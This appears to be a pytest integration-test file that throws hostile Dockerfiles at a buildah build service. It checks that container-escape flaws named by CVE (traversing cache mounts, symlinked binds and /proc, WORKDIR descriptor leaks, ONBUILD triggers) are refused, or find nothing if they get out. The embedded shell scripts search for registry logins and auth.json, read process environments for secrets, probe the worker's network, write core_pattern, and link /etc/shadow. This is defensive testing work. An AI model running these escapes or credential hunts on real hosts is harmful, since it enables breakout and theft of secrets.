"""Hostile Dockerfiles, one for each known way out: none finds a login, the worker's network, or a file to replace.

What buildah's own flaws would let out is refused before the build. Behind that refusal is a second wall: the tests
that switch it off show that a step which gets out finds nothing worth having.
"""

from __future__ import annotations

import contextlib
import gzip
import json
import os
import shutil
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from delivery_chain.builders.buildah import builder
from delivery_chain.builders.buildah.isolation import Isolation, Network
from delivery_chain.core.names.reference import sha256_digest
from delivery_chain.errors import BuildFailed, DeliveryChainError
from delivery_chain.oci.client import RegistryClient
from support.builds import (
    PASSWORD,
    Builder,
    copy_shell,
    listening_api,
    locked_registry,
    own_address,
    own_namespace,
    run,
)

if TYPE_CHECKING:
    from collections.abc import Iterator

    from delivery_chain.core.names.registry import Registry

pytestmark = [
    pytest.mark.integration,
    pytest.mark.skipif(os.geteuid() != 0 or shutil.which("buildah") is None, reason="needs root and buildah"),
]
LOGIN = "cm9ib3Q6czNjcjN0"
"""base64 of the registry's login, as buildah keeps it."""
BOTH = [
    pytest.param(Isolation.CONTAINER, Network.PRIVATE, id="container"),
    pytest.param(Isolation.NAMESPACES, Network.PRIVATE, id="namespaces"),
]
LOOK = r"""
PATH=/bin
say() { echo "FOUND $*"; }
# The login in halves, so that this script does not find itself.
busybox find /x -xdev -type f -size -64k 2>/dev/null | while read -r f; do
  busybox grep -q "cm9ib3Q6""czNjcjN0" "$f" 2>/dev/null && say login "$f"
done
busybox find / -xdev -name auth.json 2>/dev/null | while read -r f; do say login "$f"; done
for p in etc/resolv.conf etc/resolv.private etc/hosts etc/passwd usr/bin/buildah usr/sbin/runc bin/sh \
  mnt/settings/Dockerfile mnt/settings/containers.conf mnt/settings/registries.conf \
  mnt/settings/home/.config/containers/policy.json mnt/context/busybox settings/Dockerfile Dockerfile; do
  [ -e "/x/$p" ] && say seen "$p"
  [ -e "/x/$p" ] && (echo x >>"/x/$p") 2>/dev/null && say wrote "$p"
done
for p in . etc usr usr/bin mnt mnt/settings mnt/settings/home mnt/settings/hooks mnt/context mnt/build settings; do
  [ -d "/x/$p" ] && (echo x >"/x/$p/new") 2>/dev/null && say wrote "$p/new"
done
for m in /x /x/mnt/settings /x/usr /x/mnt/context; do
  busybox mount -o remount,bind,rw "$m" 2>/dev/null && say remounted "$m"
done
busybox find /x/proc -maxdepth 2 -name environ 2>/dev/null | while read -r f; do
  busybox cat "$f" 2>/dev/null | busybox grep -qE "AIRFLOW|pr0xy" && say environment "$f"
done
for a in 127.0.0.1 10.0.2.2 @ADDRESS@; do (exec 3<>"/dev/tcp/$a/@PORT@") 2>/dev/null && say network "$a"; done
busybox ls -d /x/home /x/opt /x/root/.[a-z]* /x/var/lib/[a-z]* 2>/dev/null | while read -r f; do say worker "$f"; done
say nothing more
"""


@pytest.fixture(scope="module")
def data(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The registry's folder."""
    return tmp_path_factory.mktemp("locked")


@pytest.fixture(scope="module")
def registry(data: Path) -> Iterator[Registry]:
    with locked_registry(data) as registry:
        yield registry


@pytest.fixture(scope="module")
def port() -> Iterator[int]:
    with listening_api() as port:
        yield port


@pytest.fixture(scope="module")
def base(registry: Registry, tmp_path_factory: pytest.TempPathFactory) -> str:
    """A base image with a shell, which needs the login."""
    build = Builder(tmp_path_factory.mktemp("base"))
    copy_shell(build.context)
    build(registry, (build.context / "Dockerfile").read_text(), name="shop/base", tag="1")
    return f"{registry.host}/shop/base:1"


class Attack:
    """Builds Dockerfiles of an attacker who may push source, and tells what they found."""

    def __init__(self, registry: Registry, folder: Path, base: str, script: str) -> None:
        self.registry, self.base = registry, base
        self.build = Builder(folder)
        (self.build.context / "look").write_text(script)

    def __call__(self, dockerfile: str, isolation: Isolation, network: Network, **rest: Any) -> list[str]:
        """What was found; raises what the build raises."""
        self.build.lines.clear()
        text = dockerfile.replace("{base}", self.base)
        try:
            self.build(
                self.registry, text, reads=own_namespace(self.registry, "shop"),
                isolation=isolation, network=network, **rest,
            )  # fmt: skip
        finally:
            text = "\n".join(self.build.lines)
            assert (PASSWORD in text, LOGIN in text) == (False, False)
        prefix = "FOUND "
        return [line.removeprefix(prefix) for line in self.build.lines if line.startswith(prefix)]


@pytest.fixture
def attack(
    registry: Registry, base: str, port: int, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> Attack:
    monkeypatch.setenv("AIRFLOW__DATABASE__SQL_ALCHEMY_CONN", "AIRFLOW-secret")
    monkeypatch.setenv("https_proxy", "http://user:pr0xy@proxy.invalid:3128")
    script = LOOK.replace("@PORT@", str(port)).replace("@ADDRESS@", own_address())
    return Attack(registry, tmp_path, base, script)


STEP = 'RUN{flags} ["/bin/bash", "/look"]\n'
CLIMB = "../../../../../../../../../.."
STAGE = "FROM {base} AS evil\n" + run(
    "/bin/busybox ln -s / /root-link; /bin/busybox ln -s /mnt/build /build-link"
)


def last(mount: str) -> str:
    return "FROM {base}\nCOPY look /look\n" + STEP.replace("{flags}", f" --mount={mount}")


FLAWS = [
    pytest.param(
        last(f"type=cache,id={CLIMB}/mnt/build,target=/x"), "CVE-2024-9675", id="cache: the build's folder"
    ),
    pytest.param(last(f"type=cache,id={CLIMB},target=/x"), "CVE-2024-9675", id="cache: the root"),
    pytest.param(
        STAGE + last("type=bind,from=evil,source=/root-link,target=/x,rw"),
        "CVE-2024-1753",
        id="bind: the root",
    ),
    pytest.param(
        STAGE + last("type=bind,from=evil,source=/build-link,target=/x,rw"),
        "CVE-2024-1753",
        id="bind: the folder",
    ),
    pytest.param(
        last("type=bind,source=look,target=/look2,bind-propagation=shared"), "CVE-2024-9407", id="propagation"
    ),
]


@pytest.mark.parametrize(("isolation", "network"), BOTH)
@pytest.mark.parametrize(("dockerfile", "flaw"), FLAWS)
def test_known_ways_out_are_refused(
    attack: Attack, dockerfile: str, flaw: str, isolation: Isolation, network: Network
) -> None:
    """Before anything is pulled or run, with the flaw's name."""
    with pytest.raises(BuildFailed, match=rf"Dockerfile:\d+: RUN .*refused, as {flaw}"):
        attack(dockerfile, isolation, network)
    assert not any(line.startswith(("pulling", "STEP", "[1/2]")) for line in attack.build.lines)


HIDDEN = [
    pytest.param(b"RUN \xa0--mount=", id="a blank byte"),
    pytest.param(b"RUN \x85--mount=", id="another blank byte"),
    pytest.param(b'RUN ["/bin/busybox"] \\\n\x1c\nRUN --mount=', id="a line that is not blank"),
    pytest.param(b'RUN ["/bin/busybox"] \\\n\x1e# \nRUN --mount=', id="no comment"),
]


@pytest.mark.parametrize("start", HIDDEN)
def test_a_mount_is_not_hidden_by_odd_bytes(attack: Attack, start: bytes) -> None:
    """What buildah takes for a mount is looked at, whatever bytes are around it."""
    step = start + f'type=cache,id={CLIMB},target=/x ["/bin/busybox","ls","/x"]\n'.encode()
    with pytest.raises(BuildFailed, match=r"refused, as CVE-2024-9675"):
        attack(
            (b"FROM {base}\n" + step).decode(errors="surrogateescape"), Isolation.CONTAINER, Network.PRIVATE
        )


@pytest.mark.parametrize(("isolation", "network"), BOTH)
@pytest.mark.parametrize(("dockerfile", "flaw"), FLAWS[:4])
def test_a_step_that_gets_out_finds_nothing(
    attack: Attack,
    monkeypatch: pytest.MonkeyPatch,
    dockerfile: str,
    flaw: str,
    isolation: Isolation,
    network: Network,
) -> None:
    """Neither the login of the base image, nor the worker's network, nor a file that anything runs or reads."""
    monkeypatch.setattr(builder, "may_leave", lambda _: False)
    monkeypatch.setattr(builder, "check_mounts", lambda *_: None)
    try:
        found = attack(dockerfile, isolation, network)
    except BuildFailed:
        # The kernel or the runtime refused the mount.
        assert "nothing more" not in "\n".join(attack.build.lines[-3:])
        return
    assert [line for line in found if not line.startswith("seen ")] == ["nothing more"], flaw


TAMPER = r"""
PATH=/bin
cd /x/storage/overlay || exit 1
for d in */; do
  [ -d "$d/diff" ] && [ ! -d "$d/merged" ] && busybox mv "$d/diff" "$d/old" && busybox ln -s /proc/self/fd "$d/diff"
done
cd /x/storage/overlay-images || exit 1
for d in */; do for f in "$d"manifest "$d"=*; do busybox rm -f "$f"; busybox ln -s /proc/self/fd/9 "$f"; done; done
busybox ln -s /etc/shadow /x/../result/digest
echo tampered
"""


@pytest.mark.parametrize(("isolation", "network"), BOTH)
def test_what_a_build_left_does_not_lead_the_push_to_its_login(
    attack: Attack, data: Path, monkeypatch: pytest.MonkeyPatch, isolation: Isolation, network: Network
) -> None:
    """Links in storage, put there by a step that got out, put no login into the image."""
    monkeypatch.setattr(builder, "may_leave", lambda _: False)
    monkeypatch.setattr(builder, "check_mounts", lambda *_: None)
    (attack.build.context / "tamper").write_text(TAMPER)
    step = f'RUN --mount=type=cache,id={CLIMB}/mnt/build,target=/x ["/bin/bash", "/tamper"]\n'
    before = set(data.rglob("data"))
    with contextlib.suppress(DeliveryChainError):
        attack("FROM {base}\nCOPY tamper /tamper\n" + step, isolation, network)
    assert "tampered" in attack.build.lines
    for blob in set(data.rglob("data")) - before:
        content = blob.read_bytes()
        plain = gzip.decompress(content) if content[:2] == b"\x1f\x8b" else content
        assert (LOGIN.encode() in plain, PASSWORD.encode() in plain) == (False, False)


def rooted(context: Path, links: dict[str, str]) -> str:
    """Make a folder of links, and give the instructions that lay them over an empty image with a shell."""
    for name, target in links.items():
        path = context / "root" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.symlink_to(target)
    shell = (context / "Dockerfile.shell").read_text()
    return f"{shell}COPY root /\nCOPY look /look\n"


IMAGES = [
    pytest.param({"proc": "/var"}, "", id="CVE-2023-27561 and CVE-2023-28642: /proc is a link"),
    pytest.param({"dev": "/mnt/settings"}, "", id="CVE-2026-41579, CVE-2025-52565: /dev is a link"),
    pytest.param({"dev/null": "/proc/sys/kernel/core_pattern"}, "", id="CVE-2025-31133: /dev/null is a link"),
    pytest.param({"sys": "/mnt"}, "", id="/sys is a link"),
    pytest.param(
        {"etc/passwd": "/mnt/settings/Dockerfile"}, "USER robot\n", id="CVE-2024-9676: /etc/passwd is a link"
    ),
    pytest.param({"etc/resolv.conf": "/mnt/settings/Dockerfile"}, "", id="/etc/resolv.conf is a link"),
    pytest.param({"y": "/../../../mnt"}, "", id="CVE-2021-30465 and CVE-2024-45310: a target is a link"),
    pytest.param({}, "WORKDIR /proc/self/fd/7\n", id="CVE-2024-21626: WORKDIR is descriptor 7"),
    pytest.param({}, "WORKDIR /proc/self/fd/8\n", id="CVE-2024-21626: WORKDIR is descriptor 8"),
]
OUTSIDE = r"""
for p in ../../../../mnt/settings ../../../../../mnt/settings; do
  [ -e "$p/containers.conf" ] && say "out through the working folder"
done
[ "$(busybox sed -n 's/^CapInh:.0*//p' /proc/self/status)" ] && say inheritable capabilities
groups=$(busybox sed -n 's/^Groups:.//p' /proc/self/status)
for g in $groups; do [ "$g" = 0 ] || say group "$g"; done
busybox mkdir /sys/fs/cgroup/new 2>/dev/null && say wrote a cgroup
for c in /sys/fs/cgroup/*/; do busybox mkdir "$c/new" 2>/dev/null && say wrote "$c"; done
(echo x >/proc/sys/kernel/core_pattern) 2>/dev/null && say wrote core_pattern
(echo x >/proc/sysrq-trigger) 2>/dev/null && say wrote sysrq-trigger
busybox mount -o remount,rw /proc/sys 2>/dev/null && say remounted /proc/sys
say nothing more
"""


@pytest.mark.parametrize(("isolation", "network"), BOTH)
@pytest.mark.parametrize(("links", "instructions"), IMAGES)
def test_images_that_lead_a_runtime_astray(
    attack: Attack, links: dict[str, str], instructions: str, isolation: Isolation, network: Network
) -> None:
    """The step is refused, or runs and finds nothing; the worker's own files are as they were."""
    pattern = Path("/proc/sys/kernel/core_pattern").read_text()
    context = attack.build.context
    copy_shell(context)
    (context / "Dockerfile").rename(context / "Dockerfile.shell")
    script = (context / "look").read_text().replace("say nothing more\n", OUTSIDE)
    (context / "look").write_text(script)
    mount = " --mount=type=tmpfs,target=/y/settings" if "y" in links else ""
    text = (
        rooted(context, links) if links else (context / "Dockerfile.shell").read_text() + "COPY look /look\n"
    )
    found = ["nothing more"]
    with contextlib.suppress(BuildFailed):
        found = attack(text + instructions + STEP.replace("{flags}", mount), isolation, network)
    assert [line for line in found if not line.startswith("seen ")] == ["nothing more"]
    assert Path("/proc/sys/kernel/core_pattern").read_text() == pattern


TRIGGERS = [
    pytest.param(
        f"RUN --mount=type=cache,id={CLIMB},target=/x true", "refused, as CVE-2024-9675", id="mount"
    ),
    pytest.param("COPY --from={host}/secretteam/app:prod /x /", "was not pulled", id="COPY"),
    pytest.param("RUN --mount=from={host}/secretteam/app:prod,target=/x true", "was not pulled", id="image"),
]


@pytest.mark.parametrize(("trigger", "message"), TRIGGERS)
def test_triggers_of_a_base_image_have_no_more_rights(
    attack: Attack, registry: Registry, trigger: str, message: str
) -> None:
    """ONBUILD of an image that somebody else built neither gets out nor pulls."""
    # buildah keeps no ONBUILD in images of the OCI format, registries do.
    push_with_trigger(registry, trigger.replace("{host}", registry.host))
    with pytest.raises(BuildFailed, match=message):
        attack(f"FROM {registry.host}/shop/trigger:1\n", Isolation.CONTAINER, Network.PRIVATE)


def test_triggers_run_wherever_else_the_image_is_named(attack: Attack, registry: Registry) -> None:
    """An image that COPY names before FROM does is a base image all the same."""
    push_with_trigger(registry, f"RUN --mount=type=cache,id={CLIMB},target=/x true")
    image = f"{registry.host}/shop/trigger:1"
    text = f"FROM scratch AS x\nCOPY --from={image} / /\nFROM {image}\nCOPY --from=x / /\n"
    with pytest.raises(BuildFailed, match=r"ONBUILD of .* refused, as CVE-2024-9675"):
        attack(text, Isolation.CONTAINER, Network.PRIVATE)


def test_caches_of_triggers_and_of_the_dockerfile_are_one_kind(attack: Attack, registry: Registry) -> None:
    """A trigger could put a link into its cache that a step of the Dockerfile follows."""
    push_with_trigger(registry, "RUN --mount=type=cache,id=a,target=/c ln -s / /c/l")
    text = f"FROM {registry.host}/shop/trigger:1\nRUN --mount=type=cache,id=a/l,target=/x ls /x\n"
    with pytest.raises(BuildFailed, match=r"ONBUILD of .* beside that of Dockerfile:2, not in it"):
        attack(text, Isolation.CONTAINER, Network.PRIVATE)


def push_with_trigger(registry: Registry, trigger: str) -> None:
    """Push an image as `shop/trigger:1`, in Docker's format and with an ONBUILD instruction."""
    layer = gzip.compress(bytes(10240))
    diff = sha256_digest(bytes(10240))
    config = {
        "os": "linux", "architecture": "amd64", "config": {"OnBuild": [trigger]},
        "rootfs": {"type": "layers", "diff_ids": [diff]}, "history": [{"created_by": "x"}],
    }  # fmt: skip
    kind = "application/vnd.docker."
    with RegistryClient(registry) as client:
        entries = [
            client.put_blob_bytes("shop/trigger", content).to_json() | {"mediaType": f"{kind}{media}"}
            for content, media in (
                (json.dumps(config).encode(), "container.image.v1+json"),
                (layer, "image.rootfs.diff.tar.gzip"),
            )
        ]
        media = f"{kind}distribution.manifest.v2+json"
        manifest = {"schemaVersion": 2, "mediaType": media, "config": entries[0], "layers": entries[1:]}
        client.put_manifest("shop/trigger", "1", json.dumps(manifest).encode(), media)


def test_a_daemon_of_a_step_does_not_see_the_push(attack: Attack) -> None:
    """No process of the build is alive when the login for the push is there, in any isolation."""
    step = run("/bin/busybox setsid /bin/busybox sleep 4714 >/dev/null 2>&1 </dev/null &")
    for isolation, network in ((Isolation.NAMESPACES, Network.PRIVATE), (Isolation.CHROOT, Network.HOST)):
        attack("FROM {base}\n" + step, isolation, network)
        left = [path for path in Path("/proc").glob("[0-9]*/cmdline") if b"4714" in read(path).split(b"\0")]
        assert left == []


def read(path: Path) -> bytes:
    try:
        return path.read_bytes()
    except OSError:
        return b""


@pytest.mark.parametrize(("isolation", "network"), BOTH)
def test_add_does_not_reach_the_worker(
    attack: Attack, port: int, isolation: Isolation, network: Network
) -> None:
    """ADD is fetched over the build's network, as little from the worker as by RUN, however it is spelled."""
    for host in ("2130706433", "10.0.2.2", own_address()):
        with pytest.raises(BuildFailed):
            attack(f"FROM {{base}}\nADD http://{host}:{port}/ /x\n", isolation, network)


def test_add_reaches_the_worker_over_its_network(attack: Attack, port: int) -> None:
    """What stands in the way above is the network, not the answer."""
    attack(f"FROM {{base}}\nADD http://127.0.0.1:{port}/ /x\n", Isolation.CONTAINER, Network.HOST)


def test_nothing_is_left_of_folders_however_deep(attack: Attack) -> None:
    """A step may make more of them, one in the other, than Python removes: the build still ends, and the next runs."""
    step = run("for i in $(/bin/busybox seq 1500); do /bin/busybox mkdir a; cd a; done")
    for _ in range(2):
        attack("FROM {base}\n" + step, Isolation.CONTAINER, Network.PRIVATE)
        assert attack.build.leftovers() == []
